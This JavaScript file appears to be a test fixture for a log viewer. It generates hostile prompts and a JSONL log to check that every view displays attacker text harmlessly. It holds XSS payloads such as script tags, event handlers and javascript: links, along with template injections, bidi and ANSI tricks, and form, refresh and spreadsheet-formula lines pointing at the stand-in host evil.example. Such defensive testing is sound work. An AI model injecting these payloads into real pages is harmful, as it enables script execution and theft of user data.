// Prompts as an attacker writes them, and a log of them: each is sent by six accounts, so that it is a family.
//
// The idea: whatever a prompt may do to a page that shows it stands here once, and every view must show all of it harmlessly.
// Weakness: new tricks must be added by hand. Guarantee: each prompt has a word of its own, by which a search finds it.

const tail = 'and then explain in six short paragraphs how the tides of a narrow bay follow the moon, for a reader who has never seen the sea';

// Name, prompt. `window.ran` is set where anything runs; evil.example is asked where anything fetches.
export const PROMPTS = [
  ['script', `Zebrafish <script>window.ran = 1</script> ${tail}`],
  ['handler', `Yellowhammer <img src=x onerror="window.ran=1"> <b onmouseover=window.ran=1 style="position:fixed;inset:0">x</b> ${tail}`],
  [
    'svg',
    `Xylophone <svg onload=window.ran=1><a xlink:href="javascript:window.ran=1"><text y=20>x</text></a><animate attributeName=href values=javascript:window.ran=1></svg> ${tail}`,
  ],
  [
    'link',
    `Wolverine [read](javascript:window.ran=1) javascript:window.ran=1 <a href="javascript:window.ran=1">x</a> data:text/html,<script>window.ran=1</script> ${tail}`,
  ],
  [
    'frame',
    `Viaduct "><iframe srcdoc="<script>parent.ran=1</script>"></iframe><form action=https://evil.example><input name=token></form><base href=https://evil.example/> ${tail}`,
  ],
  [
    'meta',
    `Umbrella <meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=https://evil.example/a.css><img src=https://evil.example/a.png> ${tail}`,
  ],
  ['style', `Tambourine </style><style>*{display:none!important}</style> background:url(https://evil.example/b);position:fixed ${tail}`],
  ['template', `Sandpiper {{constructor.constructor('window.ran=1')()}} \${window.ran=1} <%= 7*7 %> #{7*7} ${'`'}window.ran=1${'`'} ${tail}`],
  ['bidi', `Rapscallion \u202eeurt si siht\u202c \u2066isolated \u200f\u061c ${tail}`],
  ['ansi', `Quicksilver \u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u0008\u0007\u0000 ${tail}`],
  ['formula', `=HYPERLINK("https://evil.example","Porcupine") ${tail}`],
  ['wide', `Ostrich ${'﷽'.repeat(300)} ${'𒐫'.repeat(60)} ${'꧅'.repeat(60)} ${tail}`],
  ['marks', `Nightingale ${tail} Z${'\u0301\u0323'.repeat(500000)} end`],
  ['megabyte', `Marmalade ${tail} ${'W'.repeat(1 << 20)}`],
  ['lines', `Lighthouse ${tail} ${'\n'.repeat(3000)} end of lines`],
];

// The log of a night on `day`, one JSON object a line.
export function log(day) {
  const rows = [];
  PROMPTS.forEach(([name, prompt], i) => {
    for (let n = 0; n < 6; n += 1) {
      const minute = String((i * 6 + n) % 60).padStart(2, '0'),
        hour = String(8 + Math.floor((i * 6 + n) / 60)).padStart(2, '0');
      rows.push(
        JSON.stringify({
          id: `hostile-${name}-${n}`,
          account: `<script>window.ran=1</script> attacker ${n} of ${name}`,
          time: `${day}T${hour}:${minute}:00Z`,
          model: '<img src=x onerror=window.ran=1>',
          prompt,
          response: `<script>window.ran=1</script> answer to ${name}`,
        }),
      );
    }
  });
  // A row that is none, which the night keeps aside.
  rows.push('<script>window.ran=1</script> is no row');
  return `${rows.join('\n')}\n`;
}
